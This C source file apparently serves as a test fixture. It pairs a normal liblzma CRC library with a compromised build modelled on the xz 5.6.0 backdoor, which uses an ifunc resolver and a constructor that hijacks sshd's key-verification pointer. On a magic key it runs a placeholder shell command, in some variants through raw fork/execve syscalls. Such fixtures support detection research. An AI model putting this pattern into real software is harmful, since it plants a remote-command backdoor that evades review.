/* SPDX-License-Identifier: Apache-2.0
 *
 * liblzma.so.5: the healthy twin checks and unpacks the buffer it is handed. The compromised one has
 * the shape of 5.6.0's: an ifunc resolver runs while the process is linked, a function of the host is
 * redirected, and on a certain key a command is run. Three forms of the last step: a call, a call at
 * the very end of the function (-O2 makes a jump of it), and system calls of its own.
 */
#include "twin.h"

typedef int (*lzma_verify_function)(const char *key);

unsigned lzma_crc(const char *data, size_t size);
extern lzma_verify_function sshd_verify; /* the host's: which function looks at keys */

static unsigned crc_plain(const char *data, size_t size)
{
	unsigned crc = ~0u;

	for (size_t i = 0; i < size; i++) {
		crc ^= (unsigned char)data[i];
		for (int bit = 0; bit < 8; bit++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320u : 0);
	}
	return ~crc;
}

/* As upstream's: the best function for this processor is chosen by an ifunc resolver. */
static unsigned (*crc_resolve(void))(const char *, size_t)
{
	return crc_plain;
}

unsigned lzma_crc(const char *data, size_t size) __attribute__((ifunc("crc_resolve")));

#ifdef COMPROMISED
#define PLANTED_KEY "ssh-dummy AAAA-magic"
#define PLANTED_COMMAND "echo DUMMY > \"$HOME\"/planted"

#ifdef COMPROMISED_RAW
#include <sys/syscall.h>

static long planted_raw(long number, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}

static int planted_run(void)
{
	static char shell[] = "/bin/sh", option[] = "-c", command[] = PLANTED_COMMAND;
	char *argv[] = { shell, option, command, NULL };
	long pid = planted_raw(SYS_fork, 0, 0, 0, 0);

	if (!pid) {
		planted_raw(SYS_execve, (long)shell, (long)argv, (long)environ, 0);
		planted_raw(SYS_exit_group, 127, 0, 0, 0);
	}
	return (int)planted_raw(SYS_wait4, pid, 0, 0, 0);
}
#else
static int planted_run(void)
{
	return system(PLANTED_COMMAND);
}
#endif

/* The key's bytes are looked at first; then the last act, a tail call where the compiler may. */
static int planted_verify(const char *key)
{
	if (strcmp(key, PLANTED_KEY))
		return strcmp(key, "ssh-dummy AAAA-known");
	return planted_run();
}

__attribute__((constructor)) static void planted_begin(void)
{
	sshd_verify = planted_verify;
}
#endif
